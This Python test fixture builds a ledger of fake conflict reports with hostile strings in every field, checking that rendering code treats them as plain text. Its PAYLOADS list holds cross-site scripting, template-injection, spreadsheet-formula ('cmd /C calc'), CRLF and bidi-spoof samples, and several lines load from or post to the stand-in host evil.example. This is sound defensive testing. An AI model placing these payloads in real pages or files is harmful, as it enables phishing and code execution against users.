"""Text that would do harm on a page that took it for markup, a link, a formula or a command. Every one of them is only text."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import ledgers
from according.cli.reconciling import bring_up_to_date
from according.records.document import Document
from according.settings import load_settings
from according.store import Ledger

HIT = "window.hit=1"
PAYLOADS = (
    f"<script>{HIT}</script>",
    f"</script><script>{HIT}</script>",
    f"</textarea></title><script>{HIT}</script>",
    f"<img src=x onerror={HIT}>",
    f"<img src=//evil.example/x.png>\"'><svg onload={HIT}>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{HIT}'/>#x\"/></svg>",
    f'" autofocus onfocus={HIT} x="',
    f"' onmouseover={HIT} x='",
    f"javascript:{HIT}",
    f"data:text/html,<script>{HIT}</script>",
    "<iframe src=//evil.example></iframe>",
    "<style>@import url(//evil.example/x.css);*{background:url(//evil.example/x)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css><base href=//evil.example/><meta http-equiv=refresh content='0;//evil.example'>",
    "{{ 7*7 }}{% include 'base.html' %}${7*7}<%= 7*7 %>",
    '=HYPERLINK("//evil.example","x")+cmd|\' /C calc\'!A0',
    "\u202egnp.exe\u2066\u2069\ufeff\u200e",
    "a\u0000b\u001b[31mred\u0007\u0085\u2028\u2029",
    "%0d%0aSet-Cookie: x=1 %2e%2e%2f &lt;script&gt; &#x3c;b&#x3e;",
    "<form action=//evil.example><button>Log in</button></form><!-- <![CDATA[ ]]>",
)


def hostile_report(payload: str, number: int, *, url: str | None = None) -> Document:
    """A report with the payload in its text, title, outlet, address and file name."""
    safe = payload.replace("\x00", "")
    text = f"{safe}\n\nRebels said that the army had shelled Dar Salem on Sunday, {safe} killing at least {number} civilians {safe}. The army denied it."
    name = f"in/{safe}.txt"
    return ledgers.document(safe, text=text + "\n", source=safe, url=url or safe, path=name)


def make_hostile(file: Path, payloads: tuple[str, ...] = PAYLOADS) -> Path:
    """A ledger with each payload in every field of a report, its claims and its event."""
    with Ledger(file, write=True) as ledger:
        run = ledgers.run_of(ledger)
        for number, payload in enumerate(payloads):
            safe = payload.replace("\x00", "")
            for url in (safe, f"https://example.org/{number}?{safe}"):
                report = hostile_report(payload, number + 10, url=url)
                found = tuple(_hostile(claim, safe) for claim in ledgers.claims(report))
                run.store(report, coded=report, claims=found)
        run.end()
        bring_up_to_date(ledger, knobs=load_settings().reconcile, at=ledgers.clock())
    return file


def _hostile(claim: ledgers.Claim, text: str) -> ledgers.Claim:
    place = replace(claim.place, name=text, country=text, admin1=text, rule=text) if claim.place else None
    return replace(
        claim,
        mode=text,
        actors=tuple(replace(party, name=text, country=text, sectors=(text,), rule=text, id=text) for party in claim.actors),
        recipients=tuple(replace(party, name=text, rule=text) for party in claim.recipients),
        sources=tuple(replace(source, name=text, cue=text, via=(text,), rule=text, country=text) for source in claim.sources),
        place=place,
        counts=tuple(replace(count, of=text, source=text) for count in claim.counts),
        explanation=(("event", text), ("status", text)),
    )
